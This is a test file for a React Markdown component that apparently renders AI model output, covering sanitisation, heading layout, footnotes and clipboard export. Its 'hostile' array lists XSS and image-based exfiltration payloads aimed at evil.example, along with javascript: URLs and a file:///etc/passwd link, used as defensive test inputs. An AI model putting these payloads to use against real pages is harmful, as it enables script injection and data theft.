// @vitest-environment happy-dom
import { cleanup, render } from '@testing-library/react'
import fc from 'fast-check'
import { afterEach, beforeAll, describe, expect, test, vi } from 'vitest'
import { splitter } from '#shared/document/markdown/split.ts'
import { htmlOf, htmlWithPicturesOf, plainOf } from './clipboard.ts'
import { warmUpHealing } from './healed.ts'
import { Markdown } from './Markdown.tsx'

beforeAll(warmUpHealing)
afterEach(cleanup)

const show = (text: string, writing = false) => render(<Markdown writing={writing}>{text}</Markdown>).container

const allowed = new Set(
  'DIV P H3 H4 H5 H6 UL OL LI STRONG EM S CODE PRE BLOCKQUOTE TABLE THEAD TBODY TR TH TD HR BR A SPAN'.split(' '),
)
/** The last two only say where a piece of a text stands, and what is ours in it. */
const attributes = new Set([
  'class',
  'dir',
  'data-depth',
  'tabindex',
  'start',
  'href',
  'target',
  'rel',
  'data-length',
  'data-added',
])

/** Nothing that runs, nothing that asks another host, no address but those that a person may press. */
const harmless = (root: Element) => {
  for (const element of root.querySelectorAll('*')) {
    expect(allowed).toContain(element.tagName)
    for (const { name } of element.attributes) expect(attributes).toContain(name)
    if (element.hasAttribute('href')) expect(element.getAttribute('href')).toMatch(/^(?:https?|mailto):/)
  }
}

const outside = 'https://evil.example/?q=secret'
const hostile = [
  `![x](${outside})`,
  `![x](<${outside}>)`,
  `![x](${outside} "title")`,
  `![x][ref]\n\n[ref]: ${outside}`,
  `![ref]\n\n[ref]: ${outside}`,
  `[![x](${outside})](${outside})`,
  `![x](//evil.example/a.png)`,
  `![x](data:image/svg+xml;base64,PHN2Zy8+)`,
  `![x](/logout)`,
  `- ![x](${outside})`,
  `| a |\n|---|\n| ![x](${outside}) |`,
  `# ![x](${outside})`,
  `**![x](${outside})**`,
  `<img src="${outside}">`,
  `<IMG SRC=${outside} onerror=alert(1)>`,
  `text <img src=x onerror=alert(1)> text`,
  `<picture><source srcset="${outside}"></picture>`,
  `<video poster="${outside}"></video>`,
  `<svg><image href="${outside}"/></svg>`,
  `<link rel=stylesheet href="${outside}">`,
  `<style>@import url(${outside})</style>`,
  `<script>fetch("${outside}")</script>`,
  `<iframe src="${outside}"></iframe>`,
  `<form action="${outside}"><input name=a autofocus onfocus=alert(1)></form>`,
  `<div style="position:fixed;inset:0;background:url(${outside})">`,
  `<a href="javascript:alert(1)">press</a>`,
  `<meta http-equiv=refresh content="0;url=${outside}">`,
  `<!-- ![x](${outside}) --> <!doctype html><body onload=alert(1)>`,
  '[press](javascript:alert(1))',
  '[press](JaVaScRiPt:alert(1))',
  '[press](javascript&colon;alert(1))',
  '[press](java\nscript:alert(1))',
  '[press](data:text/html,<script>alert(1)</script>)',
  '[press](vbscript:msgbox(1))',
  '[press](file:///etc/passwd)',
  '[press](blob:https://evil.example/1)',
  '<javascript:alert(1)>',
  '[press]: javascript:alert(1)\n\n[press]',
  `\`\`\`html\n<img src="${outside}">\n\`\`\``,
  `&lt;img src=${outside}&gt; &#60;script&#62;alert(1)&#60;/script&#62;`,
]

describe('a picture that lies here', () => {
  const text = '![Zwei Stöcke](/files/0a1b)\n\nIm Mai.'
  afterEach(() => vi.unstubAllGlobals())

  test('goes along when its text is copied, since nobody else may fetch it', async () => {
    const png = new Response(new Uint8Array([1, 2, 3]), { headers: { 'content-type': 'image/png' } })
    vi.stubGlobal('fetch', async () => png)
    expect(await htmlWithPicturesOf(text)).toBe(
      '<p><img src="data:image/png;base64,AQID" alt="Zwei Stöcke"></p><p>Im Mai.</p>',
    )
  })

  test('leaves its words where it cannot be had, and a text without pictures is there at once', async () => {
    vi.stubGlobal('fetch', async () => new Response('{}', { status: 404 }))
    expect(await htmlWithPicturesOf(text)).toBe('<p>Zwei Stöcke</p><p>Im Mai.</p>')
    expect(htmlWithPicturesOf('Im *Mai*.')).toBe('<p>Im <em>Mai</em>.</p>')
  })
})

describe('what a model may write', () => {
  test.each(hostile)('is harmless: %s', text => {
    harmless(show(text))
    expect(htmlOf(text)).not.toMatch(
      /<(?!\/?(?:p|h\d|ul|ol|li|strong|em|s|code|pre|blockquote|table|thead|tbody|tr|th|td|a|hr|br)\b)/,
    )
    expect(htmlOf(text)).not.toMatch(/href="(?!https?:|mailto:)/)
  })

  test('only a picture that lies here is fetched', () => {
    const page = show('![Leuchtturm](/files/0a1b-2c) ![x](/api/auth/sign-out) ![y](/files/../logout)')
    expect([...page.querySelectorAll('img')].map(one => one.getAttribute('src'))).toEqual(['/files/0a1b-2c'])
  })

  test.each(hostile)('is harmless while it is written, letter by letter: %s', text => {
    const { container, rerender } = render(<Markdown writing>{''}</Markdown>)
    for (let end = 1; end <= text.length; end++) {
      rerender(<Markdown writing>{text.slice(0, end)}</Markdown>)
      harmless(container)
    }
  })

  test('whatever it is, it is harmless and stays readable', () => {
    const piece = fc.constantFrom(
      ...hostile,
      '**',
      '`',
      '[',
      '](',
      '<',
      '>',
      '\n',
      '\n\n',
      '- ',
      '| ',
      '# ',
      'Wort ',
      '~~',
      '_',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), pieces => {
        cleanup()
        const written = pieces.join('')
        const shown = show(written)
        harmless(shown)
        // Addresses, cells beyond a table's last column and the word after a code fence are not shown.
        const hides = pieces.some(one => hostile.includes(one)) || written.includes('```')
        if (pieces.includes('Wort ') && !hides) expect(shown.textContent).toContain('Wort')
      }),
      { numRuns: 60 },
    )
  })

  test('pictures and HTML are shown as words', () => {
    expect(show(`Sehen Sie ![den Plan](${outside}) hier.`).textContent).toBe('Sehen Sie den Plan hier.')
    cleanup()
    expect(show('<b onclick="x()">fett</b>').textContent).toBe('<b onclick="x()">fett</b>')
  })

  test('a link names its host and gives nothing away', () => {
    const link = show('[Unser Angebot](https://shop.example/a?b=1)').querySelector('a')
    expect(link?.parentElement?.textContent).toBe('Unser Angebot (shop.example)')
    expect(link?.rel).toBe('noopener noreferrer nofollow')
  })
})

describe('how it is drawn', () => {
  test('headings stand below the heading of the page, lists keep their numbers', () => {
    const shown = show('# Titel\n\n## Teil\n\n3. drei\n4. vier\n\n- [x] getan')
    expect([...shown.querySelectorAll('h3, h4')].map(({ textContent }) => textContent)).toEqual(['Titel', 'Teil'])
    expect(shown.querySelector('ol')?.start).toBe(3)
    expect(shown.querySelector('ul')?.textContent).toBe('☑ getan')
  })

  test('the first heading stands right below the page’s, whatever its depth; one without words is none', () => {
    const shown = show('## Teil\n\nText.\n\n### Kleiner\n\n## ')
    expect([...shown.querySelectorAll('h3, h4, h5')].map(({ textContent }) => textContent)).toEqual(['Teil', 'Kleiner'])
    expect(shown.querySelector('h4')?.textContent).toBe('Kleiner')
  })

  test('gaps are marked and keep their brackets; numbers and links are no gaps', () => {
    const shown = show('Am [Datum ergänzen] in [Ort], Quelle [1] und [hier](https://a.example).')
    expect([...shown.querySelectorAll('.gap')].map(({ textContent }) => textContent)).toEqual([
      '[Datum ergänzen]',
      '[Ort]',
    ])
    expect(plainOf('in [Ort]')).toBe('in [Ort]')
  })

  test('half a bold word is bold while it is written, and its stars are never seen', () => {
    expect(show('Das ist **wich', true).querySelector('strong')?.textContent).toBe('wich')
    cleanup()
    expect(show('Siehe [unser Ang', true).textContent).toBe('Siehe unser Ang')
  })

  test('lines end where the writer ended them, entities are the signs they stand for', () => {
    const shown = show('Anna Weber\nLindenweg 4\nM&uuml;ller &amp; S&#246;hne')
    expect(shown.querySelectorAll('br').length).toBe(2)
    expect(shown.textContent).toContain('M&uuml;ller & Söhne')
  })

  test('only the last block is drawn again', () => {
    const { container, rerender } = render(<Markdown writing>{'Eins.\n\nZwei'}</Markdown>)
    const first = container.querySelector('p')
    rerender(<Markdown writing>{'Eins.\n\nZwei und\n\nDrei'}</Markdown>)
    expect(container.querySelector('p')).toBe(first)
    expect(container.querySelectorAll('p').length).toBe(3)
  })
})

test('each paragraph runs its own way, whatever stands around it', () => {
  const { container } = render(<Markdown lang="de">{'Guten Tag.\n\nمرحبا بكم.\n\n- שלום\n\n1.'}</Markdown>)
  expect([...container.querySelectorAll('.block')].map(block => block.getAttribute('dir'))).toEqual([
    ...['ltr', 'rtl', 'rtl', null],
  ])
})

describe('long and strange texts', () => {
  test('a text that grows has the blocks it would have had at once, and they are the text', () => {
    const piece = fc.constantFrom(
      'Wort ',
      '\n',
      '\n\n',
      '- eins\n',
      '1. zwei\n',
      '> Zitat\n',
      '```\n',
      '# Titel\n',
      '| a |\n|---|\n',
      '  ',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), pieces => {
        const split = splitter()
        let text = ''
        for (const more of pieces) split((text += more))
        expect(split(text).join('')).toBe(text)
      }),
    )
  })

  test.each([
    ['quotes in quotes', '>'.repeat(10_000)],
    ['lists in lists', '1. '.repeat(6000)],
    ['open brackets', '['.repeat(20_000)],
    ['open stars', '**a '.repeat(5000)],
    ['open pictures', '![a]('.repeat(4000)],
    ['a megabyte on one line', 'Wort und '.repeat(110_000)],
    ['indented three hundred deep', Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n')],
  ])('%s are shown', (_, text) => {
    expect(show(text).textContent?.length).toBeGreaterThan(10)
  })
})

describe('on the clipboard', () => {
  const text =
    '# Titel\n\nEin **fetter** [Link](https://a.example/b).\n\n- eins\n- zwei\n  - drei\n\n' +
    '| a | b |\n|---|---|\n| 1 | 2 |'

  test('plain text has no Markdown in it', () => {
    expect(plainOf(text)).toBe(
      'Titel\n\nEin fetter Link (https://a.example/b).\n\n- eins\n- zwei\n  - drei\n\na\tb\n1\t2',
    )
  })

  test('HTML keeps the form', () => {
    expect(htmlOf(text)).toBe(
      '<h1>Titel</h1><p>Ein <strong>fetter</strong> <a href="https://a.example/b">Link</a>.</p>' +
        '<ul><li>eins</li><li>zwei<ul><li>drei</li></ul></li></ul>' +
        '<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>',
    )
    expect(htmlOf('| a |\n|---:|\n| 1 |')).toContain('<td style="text-align:right">1</td>')
  })
})

test('a number leads to its note below, and back', () => {
  const container = show('Der Turm [^1][^2]. [^x]\n\n[^1]: „Turm“, [a.de](https://a.de).\n\n[^2]: „Insel“')
  const [first, second] = container.querySelectorAll<HTMLElement>('[data-call]')
  expect([first?.textContent, second?.textContent]).toEqual(['1', '2'])
  expect(container.querySelectorAll('.notes-heading')).toHaveLength(1)
  Element.prototype.scrollIntoView ??= () => undefined
  second?.click()
  expect(document.activeElement).toBe(container.querySelector('[data-note="2"]'))
  expect(container.querySelector('[data-note="1"]')?.textContent).toBe('1„Turm“, a.de.')
})
